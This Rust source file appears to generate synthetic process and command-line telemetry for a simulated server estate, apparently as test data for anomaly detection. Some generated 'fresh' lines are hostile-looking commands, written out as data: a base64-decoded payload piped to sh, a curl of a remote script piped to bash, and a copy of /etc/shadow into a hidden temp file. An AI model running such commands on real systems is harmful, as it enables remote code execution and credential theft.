//! The words that the generated estate is made of.

use std::fmt::Write as _;

/// What devices are for; part of their names.
pub const ROLES: &[&str] = &["web", "db", "build", "node", "jump", "app"];

/// Folder and name of programs, most common first.
pub const PROGRAMS: &[(&str, &str)] = &[
    ("/usr/bin", "sh"),
    ("/usr/bin", "grep"),
    ("/usr/bin", "sed"),
    ("/usr/bin", "awk"),
    ("/usr/bin", "cat"),
    ("/usr/bin", "bash"),
    ("/usr/bin", "python3"),
    ("/usr/bin", "date"),
    ("/usr/bin", "ps"),
    ("/usr/bin", "ls"),
    ("/usr/bin", "stat"),
    ("/usr/bin", "find"),
    ("/usr/bin", "cut"),
    ("/usr/bin", "curl"),
    ("/usr/sbin", "sshd"),
    ("/usr/bin", "git"),
    ("/usr/bin", "gcc"),
    ("/usr/bin", "make"),
    ("/usr/bin", "systemctl"),
    ("/usr/sbin", "cron"),
    ("/usr/bin", "psql"),
    ("/usr/bin", "java"),
    ("/usr/sbin", "nginx"),
    ("/usr/bin", "node"),
    ("/usr/bin", "tar"),
    ("/usr/bin", "gzip"),
    ("/usr/bin", "rsync"),
    ("/usr/bin", "sudo"),
    ("/usr/bin", "openssl"),
    ("/usr/bin", "perl"),
    ("/usr/bin", "kubectl"),
    ("/usr/bin", "runc"),
    ("/usr/bin", "containerd-shim"),
    ("/usr/bin", "dockerd"),
    ("/usr/bin", "wget"),
    ("/usr/bin", "ssh"),
    ("/usr/bin", "scp"),
    ("/usr/bin", "apt-get"),
    ("/usr/bin", "dpkg"),
    ("/usr/sbin", "iptables"),
    ("/usr/bin", "id"),
    ("/usr/bin", "whoami"),
    ("/usr/bin", "uname"),
    ("/usr/bin", "crontab"),
    ("/usr/bin", "chmod"),
    ("/usr/bin", "chown"),
    ("/usr/bin", "base64"),
    ("/usr/bin", "xxd"),
    ("/usr/bin", "dig"),
    ("/usr/bin", "strace"),
    ("/usr/bin", "gdb"),
    ("/usr/sbin", "useradd"),
    ("/usr/bin", "passwd"),
    ("/usr/bin", "ncat"),
    ("/usr/bin", "socat"),
    ("/usr/bin", "nmap"),
    ("/usr/bin", "tcpdump"),
];

/// Users, most common first.
pub const ACCOUNTS: &[&str] = &[
    "root", "app", "deploy", "monitor", "build", "postgres", "www-data", "backup", "nobody", "git", "ansible",
    "jenkins", "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "niaj",
    "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter", "wendy",
];

/// Folders that files are written in, most common first.
pub const FOLDERS: &[&str] = &[
    "/var/log/app",
    "/tmp",
    "/var/lib/postgresql/15/main/base",
    "/var/cache/apt",
    "/home/deploy/releases",
    "/opt/app/data",
    "/var/spool/cron",
    "/usr/lib/python3/dist-packages",
    "/home/build/workspace/target",
    "/run/user/1000",
    "/var/tmp",
    "/etc/nginx/conf.d",
    "/var/www/html",
    "/srv/git/objects",
    "/root/.cache",
    "/etc/systemd/system",
    "/dev/shm",
    "/etc/cron.d",
    "/root/.ssh",
    "/etc/sudoers.d",
];

const SERVICES: &[&str] =
    &["orders", "billing", "search", "mailer", "catalog", "metrics", "auth", "reports", "sync", "export"];
const EXTENSIONS: &[&str] = &["log", "tmp", "json", "py", "so", "conf", "gz", "html", "sh", "dat"];

fn pick<'a>(list: &[&'a str], bits: u64) -> &'a str {
    list[bits as usize % list.len()]
}

/// A command line that is seen again and again.
pub fn common_line(called: &str, program: &str, bits: u64) -> String {
    let service = pick(SERVICES, bits);
    let n = bits >> 8 & 0x1f;
    match program {
        "sh" | "bash" => format!("{called} -c /opt/{service}/bin/check-{n}.sh --quiet"),
        "grep" => format!("grep -E ^{service} /proc/net/dev /etc/hosts"),
        "python3" | "perl" | "node" => {
            format!("{called} /opt/{service}/worker{n}.py --config /etc/{service}/main.conf")
        }
        "java" => {
            format!("{called} -Xmx{n}g -jar /opt/{service}/lib/{service}-server.jar --spring.profiles.active=prod")
        }
        "curl" | "wget" => format!("{called} -fsS http://127.0.0.1:{}/health/{service}", 8_000 + n),
        "sshd" => format!("sshd: {} [priv]", pick(ACCOUNTS, bits >> 16)),
        "systemctl" => format!("systemctl is-active {service}.service"),
        "sudo" => format!("sudo -n -u {} /usr/bin/systemctl status {service}", pick(ACCOUNTS, bits >> 20)),
        "tar" => format!("tar czf /backup/{service}.tgz /var/lib/{service}"),
        "base64" => "base64 -d /etc/app/key.b64".to_owned(),
        "find" => format!("find /var/log/{service} -name *.gz -mtime +{n} -delete"),
        _ => format!("{called} --service {service} -n {n}"),
    }
}

/// A command line that was never seen before.
pub fn fresh_line(line: &mut String, program: &str, bits: u64) {
    let service = pick(SERVICES, bits);
    let (a, b) = (bits >> 4 & 0xff_ffff, bits >> 28 & 0xffff);
    let _ = match program {
        "sh" | "bash" => match bits >> 50 & 0xfff {
            0 => write!(line, "{program} -c echo {a:x}{b:x} | base64 -d | sh"),
            1 => write!(line, "{program} -c curl -s http://{a}.{}/i.sh | bash", domain(b % 4_000)),
            2 => write!(line, "{program} -c cat /etc/shadow > /tmp/.x{a:x}"),
            _ => write!(line, "{program} -c /opt/{service}/bin/run --job {a:06x} --shard {b}"),
        },
        "python3" | "perl" | "node" => write!(line, "{program} /opt/{service}/task.py --id {a:06x}-{b:04x} --retry 3"),
        "gcc" => write!(line, "gcc -O2 -c src/{service}/unit{b}.c -o /tmp/cc{a:06x}.o"),
        "git" => write!(line, "git fetch origin refs/changes/{b}/{a} --depth 1"),
        "curl" | "wget" => write!(line, "{program} -s https://api.{service}.example/v2/items/{a}?page={b}"),
        "psql" => write!(line, "psql -h db-{b} -c select * from {service} where id = {a}"),
        "ssh" | "scp" => write!(line, "{program} -o BatchMode=yes deploy@10.16.{}.{} uptime {a}", b & 3, b >> 8),
        "runc" | "containerd-shim" => write!(line, "{program} --root /run/{service} start {a:06x}{b:04x}{a:06x}"),
        _ => write!(line, "{program} --input /var/tmp/{service}/{a:06x}.dat --seq {b}"),
    };
}

/// A domain of the list of the estate.
pub fn domain(n: u64) -> String {
    format!("{}{}.{}.example", pick(SERVICES, n), n / 10, ["cdn", "api", "mirror", "static"][n as usize % 4])
}

/// The name of a file.
pub fn file_name(name: &mut String, bits: u64) {
    let _ = match bits % 3 {
        0 => write!(name, "{}-{:x}.{}", pick(SERVICES, bits >> 2), bits >> 6 & 0xff_ffff, pick(EXTENSIONS, bits >> 30)),
        _ => write!(name, "{}{}.{}", pick(SERVICES, bits >> 2), bits >> 6 & 0x3f, pick(EXTENSIONS, bits >> 12)),
    };
}
